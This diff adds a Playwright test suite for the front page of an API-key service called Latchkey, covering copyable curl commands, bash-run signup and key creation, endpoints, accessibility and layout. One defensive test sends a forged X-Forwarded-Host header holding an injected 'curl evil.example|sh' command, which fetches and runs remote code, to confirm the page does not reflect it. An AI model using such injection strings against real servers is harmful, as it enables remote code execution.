@@ -1,0 +1,219 @@
+import type { Locator, Page } from "@playwright/test";
+import { expect, expectAccessible, expectNoSidewaysScrolling, randomEmail, runInBash, tabTo, test } from "./fixtures";
+
+const copyButton = (page: Page, title: string): Locator => page.getByRole("button", { name: `Copy ${title}`, exact: true });
+
+/** Presses the copy button of a block and answers what is then on the clipboard. */
+async function copy(page: Page, title: string): Promise<string> {
+  await copyButton(page, title).click();
+  await expect(page.getByRole("button", { name: `Copied ${title}`, exact: true })).toBeVisible();
+  return page.evaluate(() => navigator.clipboard.readText());
+}
+
+test.describe("On the front page a visitor", () => {
+  test("can read what Latchkey is and how to get a first key", async ({ page }) => {
+    const answer = await page.goto("/");
+    expect(answer?.status()).toBe(200);
+    await expect(page).toHaveTitle("Latchkey: API keys, looked after");
+    await expect(page.getByRole("main")).toContainText("get, watch, replace and revoke their keys");
+    await page.getByRole("link", { name: "Get your first key" }).click();
+    await expect(page).toHaveURL(/#first-key$/);
+    await expect(page.getByRole("heading", { name: "Your first key" })).toBeInViewport();
+    await expect(page.getByRole("heading", { level: 3 })).toHaveText([/Make an account/, /Create the key/, /See what you have/]);
+  });
+
+  test("can copy a command, sees and hears that it was copied", async ({ page, context, baseURL }) => {
+    await context.grantPermissions(["clipboard-read", "clipboard-write"]);
+    await page.goto("/");
+    const figure = page.getByRole("figure").filter({ has: copyButton(page, "Create a key") });
+    expect(await copy(page, "Create a key")).toBe(
+      [
+        `curl -X POST ${baseURL}/api/auth/keys/create/ \\`,
+        '  -H "Authorization: Bearer $TOKEN" \\',
+        '  -H "Content-Type: application/json" \\',
+        "  -d '{",
+        '    "key_name": "My first key"',
+        "  }'",
+      ].join("\n"),
+    );
+    await expect(page.getByRole("status").filter({ hasText: "Copied to the clipboard." })).toHaveCount(1);
+    await expect(copyButton(page, "Create a key")).toBeVisible();
+    await expect(figure.getByText("curl -X POST")).toBeVisible();
+  });
+
+  test("gets the text selected where the clipboard is refused", async ({ page }) => {
+    await page.addInitScript(() => Object.defineProperty(navigator, "clipboard", { value: undefined }));
+    await page.goto("/");
+    await copyButton(page, "List your keys").click();
+    await expect(page.getByRole("status").filter({ hasText: "The text is selected" })).toHaveCount(1);
+    expect(await page.evaluate(() => getSelection()?.toString().trim())).toMatch(/^curl http.*\n.*Bearer \$TOKEN"$/);
+  });
+
+  test("gets a working key by pasting the commands into bash", async ({ page, context, deployment }) => {
+    await context.grantPermissions(["clipboard-read", "clipboard-write"]);
+    await page.goto("/");
+    const email = randomEmail();
+    const register = await copy(page, "Register");
+    expect(register.split("\n")[0]).toBe("EMAIL=you@example.com");
+    const script = [
+      register.replace("you@example.com", email),
+      "echo '---'",
+      await copy(page, "Create a key"),
+      "echo; echo '---'",
+      await copy(page, "List your keys"),
+    ].join("\n");
+    const [signedUp = "", created = "", listed = ""] = runInBash(script).split("---\n");
+
+    expect(signedUp).toMatch(/^Your password: \S{20}\n$/);
+    const { data: key } = JSON.parse(created);
+    expect(key.key_name).toBe("My first key");
+    expect(JSON.parse(listed).data.api_keys.map(({ id }: { id: string }) => id)).toStrictEqual([key.id]);
+    const verdict = await fetch(`${deployment.url}/api/keys/verify`, {
+      method: "POST",
+      headers: { Authorization: `Bearer ${deployment.settings.SERVICE_API_SECRET}`, "Content-Type": "application/json" },
+      body: JSON.stringify({ key: key.api_key, secret: key.secret_key }),
+    });
+    expect(await verdict.json()).toMatchObject({ valid: true, key_id: key.id });
+
+    await page.getByText("You have an account, or the hour is over").click();
+    const password = signedUp.replace("Your password: ", "").trim();
+    const again = `${await copy(page, "Sign in")}\n${await copy(page, "List your keys")}`;
+    const [signedIn = "", listedAgain = ""] = runInBash(again, { EMAIL: email, PASSWORD: password }).split(/\n(.*)/s);
+    expect(signedIn).toBe("Signed in");
+    expect(JSON.parse(listedAgain).data.api_keys).toHaveLength(1);
+  });
+
+  test("sees why registering failed, instead of an empty token", async ({ page, context }) => {
+    await context.grantPermissions(["clipboard-read", "clipboard-write"]);
+    await page.goto("/");
+    const register = (await copy(page, "Register")).replace("you@example.com", randomEmail());
+    expect(runInBash(`${register}\n${register}`)).toMatch(
+      /^Your password: .*\n\{"email":\["user with this email already exists\."\]\}\n$/,
+    );
+  });
+
+  test("of the staff creates and lists keys by pasting the commands into bash", async ({ page, context, deployment }) => {
+    await context.grantPermissions(["clipboard-read", "clipboard-write"]);
+    await page.goto("/");
+    const body = {
+      email: randomEmail(),
+      password: "long-enough-1",
+      password_confirm: "long-enough-1",
+      first_name: "A",
+      last_name: "B",
+    };
+    const registered = await fetch(`${deployment.url}/api/auth/register/`, {
+      method: "POST",
+      headers: { "Content-Type": "application/json" },
+      body: JSON.stringify(body),
+    });
+    const { user } = (await registered.json()) as { user: { id: string } };
+    const variables = { ADMIN_API_SECRET: deployment.settings.ADMIN_API_SECRET ?? "", USER_ID: user.id };
+    const { key } = JSON.parse(runInBash(await copy(page, "Create a key for a user"), variables));
+    expect(key).toMatchObject({ name: "Issued by staff", key: expect.stringMatching(/^datazag_[0-9a-f]{64}$/) });
+    const { keys } = JSON.parse(runInBash(await copy(page, "List everyone’s keys"), variables));
+    expect(keys.map(({ id }: { id: number }) => id)).toContain(key.id);
+  });
+
+  test("finds every listed endpoint answering as listed", async ({ page, deployment }) => {
+    await page.goto("/");
+    const rows = await page
+      .getByRole("row")
+      .filter({ has: page.getByRole("cell") })
+      .all();
+    expect(rows.length).toBeGreaterThan(10);
+    for (const row of rows) {
+      const path = (await row.getByRole("code").innerText()).replace(":id", "1");
+      for (const method of (await row.getByRole("cell").first().innerText()).split(/\s+/)) {
+        const answer = await fetch(deployment.url + path, { method });
+        const { status } = answer;
+        // Without credentials and a body: asked for one or the other, or answered.
+        expect(`${method} ${path} ${status}`).toMatch(/ (200|400|401)$/);
+        await answer.arrayBuffer();
+      }
+    }
+  });
+
+  test("sees in the commands the address that led here, never what a forged header says", async ({ deployment }) => {
+    const { port } = new URL(deployment.url);
+    const direct = await (await fetch(`http://127.0.0.1:${port}/`)).text();
+    expect(direct).toContain(`curl http://127.0.0.1:${port}/api/auth/settings/`);
+    const proxied = await fetch(deployment.url, {
+      headers: { "X-Forwarded-Host": "keys.example.com", "X-Forwarded-Proto": "https" },
+    });
+    expect(await proxied.text()).toContain("curl https://keys.example.com/api/auth/settings/");
+    const forged = await fetch(deployment.url, { headers: { "X-Forwarded-Host": "x;curl evil.example|sh" } });
+    const html = await forged.text();
+    expect(html).not.toContain("evil");
+    expect(html).toContain(`curl ${deployment.url}/api/auth/settings/`);
+  });
+
+  test("reaches the health page", async ({ page }) => {
+    await page.goto("/");
+    await page.getByRole("link", { name: "Health of this server" }).click();
+    await expect(page).toHaveURL(/\/api\/health$/);
+    await expect(page.locator("body")).toContainText('"status":"ok"');
+  });
+
+  test("can do it all with the keyboard alone", async ({ page, context }) => {
+    await context.grantPermissions(["clipboard-read", "clipboard-write"]);
+    await page.goto("/");
+    await page.keyboard.press("Tab");
+    const skip = page.getByRole("link", { name: "Skip to content" });
+    await expect(skip).toBeFocused();
+    await expect(skip).toBeInViewport({ ratio: 1 });
+    await page.keyboard.press("Enter");
+    await expect(page.getByRole("main")).toBeFocused();
+    await tabTo(page, "Get your first key");
+    await tabTo(page, "Copy Register");
+    const outline = await page.locator(":focus").evaluate((element) => getComputedStyle(element).outlineWidth);
+    expect(outline).toBe("2px");
+    await page.keyboard.press("Enter");
+    await expect(page.getByRole("button", { name: "Copied Register" })).toBeFocused();
+    expect(await page.evaluate(() => navigator.clipboard.readText())).toContain("/api/auth/register/");
+    await tabTo(page, "You have an account");
+    await page.keyboard.press("Space");
+    await expect(copyButton(page, "Sign in")).toBeVisible();
+    await tabTo(page, "Health of this server");
+    await page.keyboard.press("Enter");
+    await expect(page).toHaveURL(/\/api\/health$/);
+  });
+
+  for (const width of [320, 360, 768, 1440, 3840]) {
+    test(`can read it on a screen ${width} pixels wide without scrolling sideways`, async ({ page }) => {
+      await page.setViewportSize({ width, height: 800 });
+      await page.goto("/");
+      await page.getByText("You have an account, or the hour is over").click();
+      await expectNoSidewaysScrolling(page);
+      for (const button of await page.getByRole("button").all()) await expect(button).toBeVisible();
+    });
+  }
+
+  test("meets no accessibility problem, in light and in dark", async ({ page }) => {
+    await page.goto("/");
+    await page.getByText("You have an account, or the hour is over").click();
+    await expectAccessible(page);
+  });
+
+  test("sees it in the colours that the system asks for", async ({ page }) => {
+    const background = () => page.evaluate(() => getComputedStyle(document.documentElement).backgroundColor);
+    await page.emulateMedia({ colorScheme: "light" });
+    await page.goto("/");
+    expect(await background()).toBe("rgb(255, 255, 255)");
+    await page.emulateMedia({ colorScheme: "dark" });
+    expect(await background()).toBe("rgb(14, 14, 16)");
+  });
+});
+
+test.describe("Without JavaScript a visitor", () => {
+  test.use({ javaScriptEnabled: false });
+
+  test("can read every command, and meets no button that does nothing", async ({ page }) => {
+    await page.goto("/");
+    await expect(page.getByText("EMAIL=you@example.com")).toBeVisible();
+    await expect(page.getByText('"key_name": "My first key"', { exact: false }).first()).toBeVisible();
+    await page.getByText("You have an account, or the hour is over").click();
+    await expect(page.getByText("/api/auth/login/").first()).toBeVisible();
+    await expect(page.getByRole("button")).toHaveCount(0);
+  });
+});
